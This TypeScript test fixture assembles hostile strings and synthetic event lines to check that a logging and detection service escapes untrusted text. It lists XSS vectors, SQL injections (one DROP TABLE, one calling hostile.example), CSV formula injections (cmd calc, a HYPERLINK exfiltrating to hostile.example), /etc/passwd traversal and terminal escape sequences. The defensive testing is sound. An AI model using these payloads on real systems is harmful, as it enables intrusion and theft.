import { canonicalFields, type FieldName } from '../../src/event/canonical-fields.ts';
import { attackerTexts } from '../alert/attacker-texts.ts';
import { attackStrings } from '../store/score-lines-of.ts';

/**
 * What an attacker may write into any field of an event, by what it aims at. A page that runs one of them sets `globalThis[ownedMark]`, opens a
 * dialog or asks `hostileHost` for something: whoever shows the texts checks that none of it happens.
 */
export const ownedMark = 'gaitOwned';
export const hostileHost = 'hostile.example';

export type HostileText = {
  readonly against: 'page' | 'sql' | 'sheet' | 'terminal' | 'message';
  readonly text: string;
};

const run = `globalThis.${ownedMark}=1;alert(1)`;

/** Contexts of HTML, attributes, URLs, scripts and styles, and texts that slip through filters (OWASP's cheat sheet on filter evasion). */
const page: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<details open ontoggle=${run}>`,
  `<iframe srcdoc="<script>parent.${ownedMark}=1</script>"></iframe>`,
  `<a href="javascript:${run}">open</a>`,
  `javascript:${run}//`,
  `JaVa\tScRiPt:${run}`,
  `data:text/html,<script>parent.${ownedMark}=1</script>`,
  `<style>@import url(https://${hostileHost}/a.css);</style>`,
  `<link rel=stylesheet href=//${hostileHost}/b.css>`,
  `<img src="https://${hostileHost}/pixel.gif">`,
  `background:url(https://${hostileHost}/c.png)`,
  `<base href="https://${hostileHost}/">`,
  `<meta http-equiv=refresh content="0;url=https://${hostileHost}/">`,
  `<form action="https://${hostileHost}/"><input name=key><button>Sign in`,
  `<!--><svg onload=${run}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `\${${run}} {{constructor.constructor('${run}')()}} #{${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\u003cscript\u003e${run}`,
  `</title></textarea></style></template><img src=x onerror=${run}>`,
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  '/v1/findings/../keys?x=1#y',
];

/** ClickHouse's own syntax among the usual. */
const sql: readonly string[] = [
  ...attackStrings.filter((text) => text.length <= 200),
  "') UNION ALL SELECT * FROM system.users --",
  "'; DROP TABLE findings_raw_v1; SELECT '",
  "' || (SELECT sleep(3)) || '",
  "1) OR (SELECT count() FROM url('https://hostile.example/','CSV','x String')) --",
  "'; INSERT INTO function file('x.csv') SELECT 1 FORMAT CSV; --",
  "%' OR 1=1 --",
  '_%_%',
  'FORMAT JSON SETTINGS max_execution_time=0',
  '/* comment */ -- and # another',
  '{identity:String}\u0000{limit:UInt32}',
];

/** What a spreadsheet takes for a formula, and what breaks rows (OWASP: CSV injection). */
const sheet: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://hostile.example/?"&A1,"open")',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\uff1d1+1 \uff0b1 \uff0d1 \uff201',
  '"=1+1","=2+2"',
  'a,b;c\td|e',
  '",\n=1+1,"',
  "|pipe ; semicolon ' quote",
];

/** What a terminal would obey: CSI, OSC (title, link, clipboard), DCS, C1, and what turns the order of letters round. */
const terminal: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H\u001b[3Jcleared',
  '\u001b[1A\u001b[2Kline above gone',
  '\u001b]0;title\u0007',
  '\u001b]52;c;cm0gLXJmIH4K\u0007clipboard',
  '\u001b]8;;https://hostile.example\u001b\\link\u001b]8;;\u001b\\',
  '\u001bP$q"p\u001b\\',
  '\u001b[5n\u001b[6n\u001b[c answers',
  '\u009b31mC1\u009c \u009d0;title\u009c \u0090q\u009c',
  '\u001b[?1049h\u001b[?25l other screen',
  'over\rwritten',
  'back\u0008\u0008\u0008\u0008space \u007f',
  'bell\u0007 shift\u000e\u000f vertical\u000b\u000c',
  '\u202egnp.exe \u2066isolated\u2069 \u200e\u200f\u061c',
  'fresh\nline HIGH user:-:nobody',
];

export const hostileTexts: readonly HostileText[] = [
  ...page.map((text) => ({ against: 'page', text }) as const),
  ...sql.map((text) => ({ against: 'sql', text }) as const),
  ...sheet.map((text) => ({ against: 'sheet', text }) as const),
  ...terminal.map((text) => ({ against: 'terminal', text }) as const),
  ...attackerTexts.map((text) => ({ against: 'message', text }) as const),
];

/** Longer ones are refused as ids, as they should be. */
const idCharsMax = 500;
export const storableTexts: readonly HostileText[] = hostileTexts.filter(({ text }) => text.length <= idCharsMax);

/** The fields that take a text: all of them. */
const textKinds: ReadonlySet<string> = new Set(['id', 'text', 'path', 'host', 'method', 'secret']);
const fieldsOf = (kind: ReadonlySet<string>): readonly FieldName[] =>
  (Object.keys(canonicalFields) as FieldName[]).filter((name) => kind.has(canonicalFields[name].kind));
export const textFields = fieldsOf(textKinds);
export const listFields = fieldsOf(new Set(['list']));

/** One call in which every field that takes a text has this one, and an unknown field is named by it. */
function hostileEvent(text: string, about: Readonly<Record<string, unknown>>): Readonly<Record<string, unknown>> {
  return {
    ...Object.fromEntries(textFields.map((name) => [name, text])),
    ...Object.fromEntries(listFields.map((name) => [name, [text, text]])),
    path: `/${text}/${text}?${text}=${text}`,
    sensitive: { [text]: 1 },
    [text]: text,
    client_ip: text,
    status: 200,
    response_bytes: 100,
    ...about,
  };
}

const dayMs = 86_400_000;
const hourMs = 3_600_000;

/**
 * Lines for `POST /v1/events`: everybody is named by a hostile text, calls as usual for some days, and then is robbed. With
 * `detect.findingsPer1000PerDay: 1000` most of them are found, so that the texts stand in findings, alerts and decisions as well.
 * `start` is the midnight of the first day; they are robbed at noon of the eighth.
 */
export function hostileLines(start: number): readonly string[] {
  const lines: { readonly ts: number; readonly line: string }[] = [];
  const add = (ts: number, event: object): void => void lines.push({ ts, line: JSON.stringify(event) });
  storableTexts.forEach(({ text }, i) => {
    const own = {
      tenant: text,
      subject: text,
      session_id: `${text}${i}`,
      host: 'api.example',
      method: 'GET',
      roles: ['clerk'],
    };
    for (let call = 0; call < 8 * 12; call++) {
      const ts = start + Math.floor(call / 12) * dayMs + (8 + (call % 12) / 3) * hourMs + i * 1000;
      const habit = { user_agent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0', client_ip: `192.0.2.${i % 200}` };
      const path = ['/orders', '/orders/17', '/customers'][call % 3];
      add(ts, { ...own, ...habit, ts, event_id: `usual-${i}-${call}`, path, country: 'DE', status: 200 });
    }
    for (let call = 0; call < 12; call++) {
      const ts = start + 8 * dayMs + 12 * hourMs + i * 1000 + call * 2000;
      const odd = { ...own, ts, event_id: `odd-${i}-${call}`, client_ip: `203.0.113.${i % 200}` };
      add(ts, hostileEvent(text, odd));
    }
  });
  return lines.sort((a, b) => a.ts - b.ts).map(({ line }) => line);
}
